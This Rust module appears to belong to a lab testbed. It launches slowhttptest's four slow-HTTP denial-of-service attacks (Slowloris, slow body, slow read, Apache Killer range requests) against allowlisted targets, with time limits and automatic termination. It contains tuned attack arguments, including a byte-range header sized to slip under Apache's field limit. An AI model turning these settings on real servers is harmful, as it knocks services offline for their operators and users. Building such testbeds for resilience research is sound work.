//! Driving `slowhttptest` (Debian's package) for the four slow-HTTP
//! attacks, from the lab's attacker host or this namespace, against allowed
//! targets only (see `targets`), bounded in time, stopped with the phase and
//! killed by the kernel if the experiment dies.
use std::{
    net::SocketAddr,
    process::{Child, Command, Stdio},
    time::Duration,
};

use super::{lab::Host, targets::Targets};

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum AttackMode {
    /// Slowloris (`-H`): headers sent a line at a time, never finished.
    Headers,
    /// R-U-Dead-Yet (`-B`): a POST body sent a few bytes at a time.
    Body,
    /// Slow read (`-X`): a large response read a few bytes at a time
    /// through a tiny receive window.
    Read,
    /// Apache Killer (`-R`): GETs asking for many overlapping byte ranges.
    Range,
}

impl AttackMode {
    /// Whether the attack needs a large response (the throwaway Apache's
    /// `LARGE_PATH`) rather than the small page.
    pub fn wants_large_response(self) -> bool {
        matches!(self, AttackMode::Read | AttackMode::Range)
    }
}

#[derive(Debug, Clone, PartialEq, serde::Serialize)]
pub struct AttackPlan {
    pub mode: AttackMode,
    pub connections: u32,
    /// New connections per second.
    pub rate: u32,
    /// Seconds between follow-up bytes (or reads) on each connection.
    pub interval: Duration,
    pub duration: Duration,
}

#[derive(Debug, thiserror::Error)]
pub enum AttackError {
    #[error(transparent)]
    Target(#[from] super::TargetError),
    #[error("cannot run slowhttptest (install Debian's slowhttptest; `cargo xtask setup` does)")]
    Spawn(#[source] std::io::Error),
}

/// A running attack; stopped (killed) on drop.
pub struct Attack {
    child: Child,
    pub command: String,
}

impl Attack {
    /// Starts the attack on `addr` + `path` from `host` (or from here).
    pub fn start(
        addr: SocketAddr,
        path: &str,
        plan: &AttackPlan,
        host: Option<&Host>,
        targets: &Targets,
    ) -> Result<Self, AttackError> {
        targets.check(addr.ip())?;
        let mut cmd = match host {
            Some(h) => h.command("slowhttptest"),
            None => Command::new("slowhttptest"),
        };
        let args = arguments(addr, path, plan);
        cmd.args(&args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let command = format!("slowhttptest {}", args.join(" "));
        Ok(Self {
            child: cmd.spawn().map_err(AttackError::Spawn)?,
            command,
        })
    }

    pub fn stop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// slowhttptest's command line for `plan`.
fn arguments(addr: SocketAddr, path: &str, plan: &AttackPlan) -> Vec<String> {
    let mut a: Vec<String> = Vec::new();
    let mut push = |s: &[&str]| a.extend(s.iter().map(|s| s.to_string()));
    let interval = plan.interval.as_secs().max(1).to_string();
    match plan.mode {
        AttackMode::Headers => push(&["-H", "-i", &interval]),
        // A body of 8 KiB announced, sent a few bytes per interval.
        AttackMode::Body => push(&["-B", "-i", &interval, "-s", "8192"]),
        // Three pipelined requests per connection, an advertised window of
        // 10-20 bytes, 32 bytes read every interval.
        AttackMode::Read => push(&[
            "-X", "-k", "3", "-n", &interval, "-w", "10", "-y", "20", "-z", "32",
        ]),
        // 1001 overlapping ranges (`bytes=0-,10-0,10-1,...,10-1000`): a
        // 6.9 KB header, under Apache's LimitRequestFieldSize (8190; the
        // 3000 of slowhttptest's manual page are refused with a 400).
        AttackMode::Range => push(&["-R", "-a", "10", "-b", "1000"]),
    }
    push(&[
        "-c",
        &plan.connections.to_string(),
        "-r",
        &plan.rate.to_string(),
        "-l",
        &(plan.duration.as_secs() + 5).to_string(),
        "-p",
        "3",
        "-u",
        &format!("http://{addr}{path}"),
    ]);
    a
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop();
    }
}
